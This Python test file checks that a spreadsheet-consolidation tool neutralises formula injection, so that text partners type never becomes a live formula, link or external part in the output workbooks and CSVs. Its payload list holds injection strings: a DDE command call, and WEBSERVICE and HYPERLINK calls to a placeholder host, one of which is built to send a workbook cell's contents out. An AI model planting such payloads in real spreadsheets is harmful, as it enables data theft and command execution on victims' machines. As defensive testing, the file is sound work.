"""Nothing a partner types becomes a live formula, link or external part in anything we write.

Every free-text field of both templates is filled with formula-looking text (the kinds used in
spreadsheet injection: a leading =, +, -, @, a DDE call, a WEBSERVICE call that would send the
workbook's contents away, and a driver name built to close a string inside a formula). The folder is
consolidated with every output switched on, and each output is searched: no formula, defined name,
hyperlink or external part in any workbook carries text that came from a submission, and no CSV cell
starts with a character a spreadsheet would read as a formula.
"""

from __future__ import annotations

import csv
import shutil
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from jwmodel.cli import main
from tests.conftest import HAMPSHIRE_DIR

MARK = "x.invalid"
PAYLOADS = (
    f'=HYPERLINK("http://{MARK}/a","click")',
    f'+WEBSERVICE("http://{MARK}/b")',
    f'-1+WEBSERVICE("http://{MARK}/c")',
    f'@SUM(1)&"{MARK}"',
    f"=cmd|' /C calc {MARK}'!A0",
    f'Time spent")+0*LEN(WEBSERVICE("http://{MARK}/?q="&\'Read me\'!B6))+N("',
)

# (sheet, header) of every free-text column, and cover labels whose value is free text
TEXT_COLUMNS = {
    "Baseline": ("Notes",),
    "Options": ("Option", "Notes"),
    "Drivers": ("Driver", "Basis"),
    "Saving lines": ("Description", "Notes"),
    "One-off costs": ("Description", "Notes"),
}
TEXT_COVER = ("Partner name", "Contact name", "Contact email")


def _inject(path: Path) -> int:
    """Overwrite every free-text cell holding something with a payload; returns how many."""
    wb = openpyxl.load_workbook(path)
    n = 0

    def put(cell) -> None:
        nonlocal n
        cell.value = PAYLOADS[n % len(PAYLOADS)]
        cell.data_type = "s"  # keep it text: openpyxl would otherwise save it as a formula
        n += 1

    for ws in wb:
        if ws.title == "Cover":
            for row in ws.iter_rows(min_col=1, max_col=2):
                if row[0].value in TEXT_COVER:
                    put(row[1])
        for header in TEXT_COLUMNS.get(ws.title, ()):
            cols = [c for c in ws[4] if c.value == header]
            for c in cols:
                for (cell,) in ws.iter_rows(min_row=5, min_col=c.column, max_col=c.column):
                    if cell.value not in (None, ""):
                        put(cell)
    # a driver named in Options must match the Drivers sheet: name both the same
    if "Options" in wb.sheetnames:
        driver = PAYLOADS[-1]
        for ws, header in ((wb["Options"], "Driver"), (wb["Drivers"], "Driver")):
            col = next(c.column for c in ws[4] if c.value == header)
            for (cell,) in ws.iter_rows(min_row=5, min_col=col, max_col=col):
                if cell.value not in (None, ""):
                    cell.value, cell.data_type = driver, "s"
    wb.save(path)
    return n


def _xml_texts(book: Path) -> list[tuple[str, str]]:
    """(part, text) of every formula, defined name and relationship target in a workbook."""
    found: list[tuple[str, str]] = []
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            assert "externalLink" not in name, f"{book.name} has an external part {name}"
            if not name.endswith((".xml", ".rels")):
                continue
            root = ElementTree.fromstring(z.read(name))
            for el in root.iter():
                tag = el.tag.rsplit("}", 1)[-1]
                if tag in ("f", "definedName", "formula", "formula1", "formula2") and el.text:
                    found.append((name, el.text))
                if tag == "Relationship":
                    found.append((name, el.get("Target", "")))
                if tag == "hyperlink":
                    found.append((name, el.get("location", "") + el.get("display", "")))
    return found


def _inject_everywhere(path: Path) -> int:
    """Every text cell of every sheet but Instructions, codes and choices too (the file is then refused)."""
    wb = openpyxl.load_workbook(path)
    n = 0
    for ws in wb:
        if ws.title == "Instructions":
            continue
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value and not (ws.title == "Cover" and cell.column == 1):
                    cell.value, cell.data_type = PAYLOADS[n % len(PAYLOADS)], "s"
                    n += 1
    wb.save(path)
    return n


@pytest.fixture(scope="module", params=["free text", "every text cell"])
def injected_run(request, tmp_path_factory) -> tuple[Path, int]:
    root = tmp_path_factory.mktemp("injection")
    folder = root / "returns"
    shutil.copytree(HAMPSHIRE_DIR, folder)
    files = sorted(folder.glob("*.xlsx"))
    # "every text cell": every other file has its codes and choices replaced too, so it is refused and
    # its typed values reach the Findings, Sources and receipts as quoted text
    everywhere = files[::2] if request.param == "every text cell" else []
    typed = sum(_inject_everywhere(p) if p in everywhere else _inject(p) for p in files)
    out = root / "out"
    out.mkdir()
    args = [
        "consolidate",
        str(folder),
        "-o",
        str(out / "consolidated.xlsx"),
        "--json",
        str(out / "summary.json"),
        "--model",
        str(out / "model.xlsx"),
        "--receipts",
        str(out / "receipts"),
        "--tables",
        str(out / "tables"),
        "-q",
    ]
    code = main(args)
    assert code == (2 if everywhere else 0), code
    return out, typed


def test_payloads_were_typed_into_every_free_text_field(injected_run):
    _, typed = injected_run
    assert typed >= 60  # 10 files, every cover name and every note, description, option and driver


def test_no_workbook_we_write_has_a_formula_link_or_part_from_a_submission(injected_run):
    out, _ = injected_run
    books = sorted(out.rglob("*.xlsx"))
    assert {b.name for b in books} >= {"consolidated.xlsx", "model.xlsx"}
    assert len(books) >= 12  # and a receipt per submission
    formulas = 0
    for book in books:
        texts = _xml_texts(book)
        formulas += sum(1 for part, _ in texts if part.startswith("xl/worksheets/"))
        for part, text in texts:
            assert MARK not in text, f"{book.name} {part}: {text[:120]}"
            assert "WEBSERVICE" not in text.upper() and "HYPERLINK" not in text.upper(), f"{book.name} {part}"
    assert formulas > 100  # the scan sees the workbooks' own formulas (totals, checks, JW_ functions)


def test_the_payloads_are_kept_as_text(injected_run):
    """Text is not lost either: the payloads are in the workbook as plain strings."""
    out, _ = injected_run
    with zipfile.ZipFile(out / "consolidated.xlsx") as z:
        strings = z.read("xl/sharedStrings.xml").decode("utf-8")
    assert MARK in strings


def test_no_csv_cell_starts_like_a_formula(injected_run):
    out, _ = injected_run
    tables = sorted((out / "tables").glob("*.csv"))
    assert tables
    seen_payload = False
    for table in tables:
        with table.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    seen_payload |= MARK in cell
                    if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _is_number(cell)):
                        pytest.fail(f"{table.name}: a cell starts like a formula: {cell[:80]!r}")
    assert seen_payload


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
